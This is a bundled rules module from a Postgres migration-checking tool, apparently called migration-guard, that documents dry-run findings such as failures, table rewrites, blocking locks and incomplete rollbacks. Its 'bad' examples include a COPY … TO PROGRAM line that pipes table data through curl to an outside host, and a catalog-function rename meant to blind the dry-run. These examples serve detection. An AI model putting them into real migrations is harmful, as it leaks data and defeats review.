import { createRequire as __mgCreateRequire } from 'node:module'; const require = __mgCreateRequire(import.meta.url);

// rules/dry-run-failed.ts
var rule = {
  id: "dry-run-failed",
  risk: "DANGEROUS",
  title: "The migration fails when run against the schema it will meet",
  docs: {
    why: "The dry-run applied the base history to a throwaway Postgres and then this migration, and Postgres rejected a statement (the SQLSTATE and message are Postgres' own). In production the deploy would fail at the same place; for a runner that does not wrap migrations in a transaction, the statements before it stay applied and the schema is left half-migrated. A statement or total time limit that stopped the dry-run is reported here too (SQLSTATE 57014), as is a rollback that fails.",
    instead: "Fix the statement at the reported line and column. If it fails only because of rows (NOT NULL, CHECK, UNIQUE, a cast), clean or backfill the data first, or add the constraint NOT VALID and validate it later.",
    bad: "ALTER TABLE orders ADD COLUMN total numeric NOT NULL; -- existing rows have no value",
    good: "ALTER TABLE orders ADD COLUMN total numeric NOT NULL DEFAULT 0;"
  }
};

// rules/dry-run-refused.ts
var rule2 = {
  id: "dry-run-refused",
  risk: "DANGEROUS",
  title: "The migration tries to run a program or read files on the database server",
  docs: {
    why: "COPY \u2026 TO/FROM PROGRAM runs a shell command on the database server as the postgres OS user; pg_read_file, lo_import, COPY from a server file and ALTER SYSTEM reach the server's files and configuration. None of this belongs in a schema migration, and a pull request that does it may be an attack. The dry-run refuses COPY \u2026 PROGRAM before it runs (it also looks inside DO blocks and function bodies); on a real server the migration runs as an unprivileged role, so Postgres itself refuses the others (SQLSTATE 42501).",
    lock: "None: the statement is refused, not run.",
    instead: "Load data with COPY \u2026 FROM STDIN from the deploy tooling, or with INSERT statements; change server settings through the server's configuration management, not a migration.",
    bad: "COPY orders TO PROGRAM 'curl -d @- https://example.com';",
    good: `-- export data from the deploy job: psql -c "\\copy orders TO 'orders.csv' CSV"`
  }
};

// rules/dry-run-unobserved.ts
var rule3 = {
  id: "dry-run-unobserved",
  risk: "DANGEROUS",
  title: "The dry-run could not observe what this migration does",
  docs: {
    why: "The dry-run is how migration-guard sees what static analysis cannot: dynamic SQL (EXECUTE of a built string), functions and triggers that run during the migration, the real locks and rewrites. It watches the migration with queries of its own (pg_locks, relfilenodes, a schema snapshot before and after). Here one of those queries failed, or the engine stopped (a crash, the memory cap), after the migration began: the locks it took, the tables it rewrote and whether it fails are unknown. A migration can cause this on purpose, for example by renaming or shadowing a catalog function the dry-run calls, so an observation that did not finish is treated like a dangerous finding until someone who may approve has read the migration. A migration the dry-run never ran is as unknown, and gets this finding too: the base history before it could not be built (nor from a whole-schema file such as memos' LATEST.sql, when the versioned history cannot start from nothing), an earlier migration of the change failed or was not observed, or the engine stopped first.",
    lock: "Unknown: that is the finding.",
    instead: "Read the message for what failed. If the base history fails, fix the migration it names, or keep the whole schema the base starts from beside the versioned migrations (LATEST.sql, schema.sql). If the migration changes catalog functions, settings the dry-run relies on or the session itself, remove that. If the engine ran out of memory or time on legitimate work, run the dry-run on the `url` or `local` engine, or raise the limits in `dryRun:`. Otherwise approve it with /approve-migration after reviewing it by hand.",
    bad: "ALTER FUNCTION pg_catalog.set_config(text, text, boolean) RENAME TO hidden; -- the dry-run's probes now fail\nDO $$ BEGIN EXECUTE 'ALTER TABLE orders ALTER COLUMN total TYPE ' || 'numeric(20,2)'; END $$;",
    good: "ALTER TABLE orders ALTER COLUMN total TYPE numeric(20,2); -- static SQL the analysis and the dry-run can both see"
  }
};

// rules/observed-blocking-lock.ts
var rule4 = {
  id: "observed-blocking-lock",
  risk: "CAUTION",
  title: "The dry-run saw this statement take a lock that blocks writes on an existing table",
  docs: {
    why: "The dry-run read pg_locks after the statement and saw SHARE or a stronger lock on a table that existed before the migration. Inside a transaction that lock is held until COMMIT, so every later statement of the transaction extends the time writers (or, for ACCESS EXCLUSIVE, readers too) wait; while it waits for the lock, everything queued behind it waits as well.",
    lock: "SHARE or stronger (SHARE blocks writes; ACCESS EXCLUSIVE blocks reads and writes) until the end of the transaction.",
    instead: "Keep the blocking statement in a transaction of its own, set lock_timeout so it gives up instead of queueing, and move slow work (backfills, index builds, validation) out of the transaction that holds the lock: CREATE INDEX CONCURRENTLY, ADD CONSTRAINT \u2026 NOT VALID then VALIDATE CONSTRAINT.",
    bad: "BEGIN;\nALTER TABLE orders ADD COLUMN note text;\nUPDATE orders SET note = '';\nCOMMIT;",
    good: "SET lock_timeout = '2s';\nALTER TABLE orders ADD COLUMN note text;\n-- backfill in batches, each in its own short transaction",
    equivalents: { squawk: "require-timeout-settings", eugene: "E9" }
  }
};

// rules/observed-rewrite.ts
var rule5 = {
  id: "observed-rewrite",
  risk: "DANGEROUS",
  title: "The dry-run saw this statement rewrite an existing table",
  docs: {
    why: "The dry-run saw the relation get a new data file (pg_class.relfilenode changed): Postgres copied every row and rebuilt every index while holding ACCESS EXCLUSIVE on the table. On a production-sized table that is minutes to hours during which nothing can read or write it. This is measured, not guessed: it outranks a static rule that thought the statement was cheap.",
    lock: "ACCESS EXCLUSIVE on the table for the whole rewrite: blocks reads and writes.",
    instead: "Avoid the rewrite: add a new column, backfill it in batches, switch reads and writes, then drop the old column; use a non-volatile default; widen types instead of changing them (varchar(n) \u2192 text, int \u2192 bigint on a new column).",
    bad: "ALTER TABLE orders ALTER COLUMN id TYPE bigint;",
    good: "ALTER TABLE orders ADD COLUMN id_new bigint;\n-- backfill in batches, then swap in a later migration",
    equivalents: { squawk: "changing-column-type", strongMigrations: "change_column" }
  }
};

// rules/rollback-incomplete.ts
var rule6 = {
  id: "rollback-incomplete",
  risk: "CAUTION",
  title: "The rollback does not restore the schema the migration found",
  docs: {
    why: "The dry-run ran the migration and then its rollback, and the schema afterwards differs from the schema before the migration (tables, columns with types, defaults and nullability, constraints, indexes, sequences, enums, views, functions, triggers, extensions). Rolling back in production would leave the same leftovers, and re-running the migration later may fail on them or silently keep stale objects.",
    instead: "Undo every object the migration creates or changes, in reverse order: drop what it created (indexes too), restore what it altered (types, defaults, NOT NULL), recreate what it dropped.",
    bad: "-- up\nCREATE INDEX orders_created_at_idx ON orders (created_at);\nALTER TABLE orders ADD COLUMN note text;\n-- down\nALTER TABLE orders DROP COLUMN note;",
    good: "-- up\nCREATE INDEX orders_created_at_idx ON orders (created_at);\nALTER TABLE orders ADD COLUMN note text;\n-- down\nALTER TABLE orders DROP COLUMN note;\nDROP INDEX orders_created_at_idx;"
  }
};

// rules/rollback-reapply-failed.ts
var rule7 = {
  id: "rollback-reapply-failed",
  risk: "CAUTION",
  title: "The migration cannot be applied again after its rollback",
  docs: {
    why: "The dry-run applied the migration, ran its rollback, and applied the migration again; the second apply failed. After a rollback in production, deploying the fix forward would fail the same way, usually because the rollback left an object behind (an index, a type, a sequence) that the migration creates without IF NOT EXISTS.",
    instead: "Make the rollback remove everything the migration creates, so up \u2192 down \u2192 up works; the rollback-incomplete finding names the leftovers.",
    bad: "-- up\nCREATE TYPE status AS ENUM ('new', 'done');\nALTER TABLE orders ADD COLUMN status status;\n-- down\nALTER TABLE orders DROP COLUMN status;",
    good: "-- up\nCREATE TYPE status AS ENUM ('new', 'done');\nALTER TABLE orders ADD COLUMN status status;\n-- down\nALTER TABLE orders DROP COLUMN status;\nDROP TYPE status;"
  }
};

export {
  rule,
  rule2,
  rule3,
  rule4,
  rule5,
  rule6,
  rule7
};
